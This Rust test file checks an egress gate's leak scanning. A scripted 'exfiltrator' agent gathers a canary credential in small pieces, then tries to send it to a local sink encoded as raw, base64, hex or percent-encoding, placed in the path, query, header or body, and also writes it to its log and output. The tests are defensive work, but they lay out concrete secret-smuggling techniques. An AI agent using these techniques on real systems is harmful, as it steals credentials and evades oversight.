//! The full path, driven by the real hostile agent `exfiltrator` in the real sandbox: it gets a
//! credential out of the upstream it is injected into, then tries to smuggle it to another host
//! raw, base64'd, hex'd or percent-encoded, in the path, the query, a header or the body; it also
//! writes it to its log and its output.
//!
//! How the agent learns the credential: the gate refuses a response that reflects it in any form
//! (see `reflection`), so an honest echo is no use to it; the upstream here cooperates with the
//! agent and hands the credential out in five pieces of 6 bytes, each shorter than the 12 bytes the
//! deep check recognises (no scanner stops a secret leaked a few bytes at a time: the README's
//! threat model). What stops the agent then is the leak scan of every request it builds.

use crate::support::agent::{self, ScannedLog};
use crate::support::servers::Server;
use crate::support::{Env, bearer};
use redoubt_egress::{BlockReason, Location, UrlPart};
use redoubt_vault::{Form, Layer};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};

/// Encodings the agent applies (its template filters) and the form the gate must report.
const ENCODINGS: [&str; 6] = ["raw", "base64", "base64url", "hex", "HEX", "percent"];
/// Where the agent puts the encoded credential.
const PLACES: [&str; 4] = ["path", "query", "header", "body"];

/// The pieces: 6 bytes each (a multiple of 3, so the pieces' base64 joined is the whole's).
const PIECES: usize = 5;

fn learn_steps(echo: &Server) -> Vec<Value> {
    (0..PIECES)
        .map(|i| {
            let to = if i + 1 < PIECES { format!("&to={}", 6 * (i + 1)) } else { String::new() };
            json!({"url": echo.url("http", "localhost", &format!("/piece?from={}{to}", 6 * i))})
        })
        .collect()
}

fn placeholder(encoding: &str) -> String {
    (0..PIECES)
        .map(|i| match encoding {
            "raw" => format!("{{{{{i}.body}}}}"),
            e => format!("{{{{{i}.body|{e}}}}}"),
        })
        .collect()
}

fn smuggle(sink: &Server, encoding: &str, place: &str) -> Value {
    let p = placeholder(encoding);
    let base = format!("http://127.0.0.1:{}", sink.port());
    match place {
        "path" => json!({"url": format!("{base}/drop/{p}")}),
        "query" => json!({"url": format!("{base}/drop?d={p}")}),
        "header" => json!({"url": format!("{base}/drop"), "headers": [["x-data", p]]}),
        _ => json!({"method": "POST", "url": format!("{base}/drop"), "body": p}),
    }
}

fn setup(env: &Env) -> Arc<ScannedLog> {
    env.secret("canary-token", &["localhost"], &["name:exfiltrator"], bearer());
    Arc::new(ScannedLog { detector: env.vault.lock().unwrap().leak_detector(), leaks: Mutex::new(Vec::new()) })
}

#[tokio::test]
async fn a_reflected_credential_cannot_be_smuggled_out_in_any_encoding_or_place() {
    let env = Env::new();
    let log = setup(&env);
    let echo = Server::http(&[]).await;
    let sink = Server::http(&[]).await;
    let mut steps = learn_steps(&echo);
    for encoding in ENCODINGS {
        for place in PLACES {
            steps.push(smuggle(&sink, encoding, place));
        }
    }
    let script = json!({"steps": steps, "log": format!("debug: token={}", placeholder("raw")), "output": "done"});
    let report = agent::run("exfiltrator", env.gate(|_| {}), log.clone(), script.to_string().as_bytes()).await;
    let output = report.outcome.expect("the agent ran to the end");
    env.record_output(&output);

    // The credential went to its own host, once per piece, and nothing reached the sink.
    assert_eq!(echo.seen().len(), PIECES);
    assert!(echo.seen().iter().all(|s| s.header("authorization").is_some_and(|a| a.starts_with("Bearer rdbt-"))));
    assert!(sink.seen().is_empty(), "{:?}", sink.seen());

    let events = env.blocks();
    assert_eq!(events.len(), ENCODINGS.len() * PLACES.len());
    let mut events = events.into_iter();
    for encoding in ENCODINGS {
        for place in PLACES {
            let event = events.next().unwrap();
            assert_eq!((event.job_id.as_str(), event.agent.as_str()), ("job-exfil", "exfiltrator"));
            assert_eq!((event.host.as_str(), event.secret.as_deref()), ("127.0.0.1", Some("canary-token")));
            let BlockReason::Leak { secret, encoding: found, location } = event.reason else { panic!("{event:?}") };
            assert_eq!(secret, "canary-token");
            let expected_location = match place {
                "path" => Location::Url(UrlPart::Path),
                "query" => Location::Url(UrlPart::Query),
                "header" => Location::HeaderValue { index: 0 },
                _ => Location::Body,
            };
            assert_eq!(location, expected_location, "{encoding} in {place}");
            let form_ok = match encoding {
                "raw" => found.form == Form::Raw && found.layer.is_none(),
                "base64" | "base64url" => matches!(found.form, Form::Base64 { .. }),
                "hex" | "HEX" => found.form == Form::Hex,
                _ => found.form == Form::Raw && matches!(found.layer, Some(Layer::Percent | Layer::FormUrlencoded)),
            };
            assert!(form_ok, "{encoding} in {place}: found {found:?}");
        }
    }
    // The log line carried the credential: the node's log path saw it and wrote it redacted.
    let leaks = log.leaks.lock().unwrap();
    assert!(leaks.iter().any(|l| l.secret == "canary-token" && l.encoding.form == Form::Raw), "{leaks:?}");
}

#[tokio::test]
async fn a_credential_in_the_job_output_is_found_by_the_output_scan() {
    let env = Env::new();
    let log = setup(&env);
    let echo = Server::http(&[]).await;
    for (filter, form) in
        [("hex", Form::Hex), ("base64", Form::Base64 { alphabet: redoubt_vault::Alphabet::Standard, alignment: 0 })]
    {
        let steps = learn_steps(&echo);
        let output_template = format!("result: {}", placeholder(filter));
        let script = json!({"steps": steps, "output": output_template});
        let report = agent::run("exfiltrator", env.gate(|_| {}), log.clone(), script.to_string().as_bytes()).await;
        let output = report.outcome.expect("the agent ran");
        // The node scans job outputs with the vault's detector before they leave.
        let detector = env.vault.lock().unwrap().leak_detector();
        let leak = detector.scan(&output).expect("the output scan finds the credential");
        assert_eq!((leak.secret.as_str(), leak.encoding.form), ("canary-token", form));
        let withheld = detector.redact(&output).into_owned();
        assert_eq!(String::from_utf8(withheld.clone()).unwrap(), "result: [REDACTED:canary-token]");
        env.record_output(&withheld);
    }
    assert!(env.blocks().is_empty(), "learning the pieces is not blocked: the upstream cooperates");
}
